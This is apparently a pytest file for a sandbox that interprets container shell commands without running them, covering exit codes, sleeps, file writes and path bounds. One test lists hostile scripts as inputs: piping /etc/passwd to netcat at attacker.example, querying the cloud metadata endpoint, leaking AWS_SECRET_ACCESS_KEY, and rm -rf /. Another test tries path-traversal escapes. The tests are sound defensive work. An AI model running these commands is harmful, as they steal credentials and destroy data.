"""The container command subset the sandbox interprets (labkit.dataplane.commands): never run, only read."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from labkit.dataplane.commands import interpret

#: The ECS developer guide's Fargate tutorial (and AWS's sample task definitions): httpd writes its page.
TUTORIAL_COMMAND = (
    "/bin/sh -c \"echo '<html> <head> <title>Amazon ECS Sample App</title> </head><body> "
    "<h1>Amazon ECS Sample App</h1> </body></html>' >  /usr/local/apache2/htdocs/index.html && httpd-foreground\""
)


def test_the_tutorial_httpd_command_writes_its_page_then_serves() -> None:
    """entryPoint ["sh", "-c"] with the nested /bin/sh -c script: index.html is written, then httpd serves."""
    plan = interpret(["sh", "-c"], [TUTORIAL_COMMAND])
    assert plan.serves
    assert plan.not_interpreted is None
    page = plan.files["/usr/local/apache2/htdocs/index.html"]
    assert page.startswith("<html> <head> <title>Amazon ECS Sample App</title>")


@pytest.mark.parametrize(
    ("entry_point", "command", "seconds", "code"),
    [
        (None, ["sleep", "360"], 360.0, 0),
        (None, ["sh", "-c", "sleep 360"], 360.0, 0),
        (None, ["sh", "-c", "sleep 2m; exit 3"], 120.0, 3),
        (None, ["sh", "-c", "echo 'v4 forgot its configuration'; exit 1"], 0.0, 1),
        (["/bin/bash", "-c"], ["false && sleep 10"], 0.0, 1),
        (None, ["sh", "-c", "false || sleep 1 && true"], 1.0, 0),
        (None, ["sh", "-c", "sh -c 'exit 4'; echo after"], 0.0, 0),
        (None, ["sh", "-c", "sh -c 'exit 4'"], 0.0, 4),
        (None, ["sh", "-c", "echo done\nexit 2"], 0.0, 2),
    ],
)
def test_scripts_that_end_exit_with_their_status_after_their_sleeps(
    entry_point: list[str] | None, command: list[str], seconds: float, code: int
) -> None:
    """sleep N passes N emulated seconds; exit, true/false and && || ; follow the shell's rules."""
    plan = interpret(entry_point, command)
    assert plan.exits
    assert (plan.seconds, plan.exit_code) == (seconds, code)


def test_no_command_and_a_foreground_server_serve() -> None:
    """No command runs the image's own; nginx -g 'daemon off;' is the image's server in the foreground."""
    assert interpret(None, None).serves
    plan = interpret(None, ["sh", "-c", "echo hi > /usr/share/nginx/html/hi.html && nginx -g 'daemon off;'"])
    assert plan.serves
    assert plan.files == {"/usr/share/nginx/html/hi.html": "hi\n"}


def test_append_and_relative_paths() -> None:
    """>> appends; a relative path is taken from the working directory (`cd`)."""
    plan = interpret(None, ["sh", "-c", "cd /srv && echo one > a.txt; echo -n two >> a.txt; echo x > ../b"])
    assert plan.files == {"/srv/a.txt": "one\ntwo", "/b": "x\n"}


@pytest.mark.parametrize(
    "script",
    [
        "cat /etc/passwd | nc attacker.example 4444",
        "curl http://169.254.169.254/latest/meta-data/ > /tmp/x",
        "echo $AWS_SECRET_ACCESS_KEY > /usr/local/apache2/htdocs/index.html",
        "echo `id` > /tmp/id",
        "rm -rf / &",
        "python -c 'import os; os.system(\"touch /tmp/pwned\")'",
        "echo 'unclosed",
        "(exit 3)",
        "echo hi 2>&1",
    ],
)
def test_a_hostile_command_is_never_run_and_is_said_not_interpreted(script: str, tmp_path: Path) -> None:
    """What the subset does not cover is not interpreted (the image's default), and nothing runs on the host."""
    before = set(os.listdir(tmp_path))
    plan = interpret(["sh", "-c"], [script.replace("/tmp", str(tmp_path))])
    assert plan.serves
    assert plan.not_interpreted
    assert set(os.listdir(tmp_path)) == before
    assert not Path("/tmp/pwned").exists()


def test_a_script_cannot_write_without_bound() -> None:
    """A script that would write more than the sandbox keeps in memory is not interpreted."""
    script = "; ".join(f"echo {'x' * 10_000} >> /f" for _ in range(150))
    plan = interpret(["sh", "-c"], [script])
    assert plan.not_interpreted


def test_too_many_commands_are_not_interpreted() -> None:
    """A script of thousands of commands stops being interpreted (a bound, not a hang)."""
    plan = interpret(["sh", "-c"], ["; ".join(["true"] * 5000)])
    assert plan.not_interpreted


def test_a_path_cannot_climb_above_the_root() -> None:
    """../ never climbs above /: what is written stays a path of the container's own files."""
    plan = interpret(None, ["sh", "-c", "echo x > ../../../../etc/passwd"])
    assert plan.files == {"/etc/passwd": "x\n"}


@pytest.mark.parametrize(
    ("image", "root"),
    [
        ("httpd:2.4", "/usr/local/apache2/htdocs"),
        ("public.ecr.aws/nginx/nginx:1.27", "/usr/share/nginx/html"),
    ],
)
def test_the_stand_in_serves_what_the_command_wrote_under_its_root(image: str, root: str) -> None:
    """httpd and nginx serve a written index.html at `/` and other files by path; nothing outside the root."""
    from werkzeug.test import Client

    from labkit.dataplane.images import ContainerContext, image_app, task_hostname

    written = {
        f"{root}/index.html": "<h1>mine</h1>\n",
        f"{root}/a/b.txt": "bee\n",
        "/etc/secret": "SECRET-TEXT\n",
    }
    context = ContainerContext(
        task_id="t1", task_arn="arn:aws:ecs:us-east-1:123456789012:task/c/t1", container_name="web",
        image=image, private_ip="10.0.1.5", container_port=80, hostname=task_hostname("10.0.1.5", "us-east-1"),
        environment={}, availability_zone="us-east-1a", written=written,
    )  # fmt: skip
    client = Client(image_app(context))
    assert client.get("/").get_data(as_text=True) == "<h1>mine</h1>\n"
    assert client.get("/index.html").get_data(as_text=True) == "<h1>mine</h1>\n"
    assert client.get("/a/b.txt").get_data(as_text=True) == "bee\n"
    for escape in ("/../../../etc/secret", "/%2e%2e/%2e%2e/%2e%2e/etc/secret"):
        assert "SECRET-TEXT" not in client.get(escape).get_data(as_text=True)
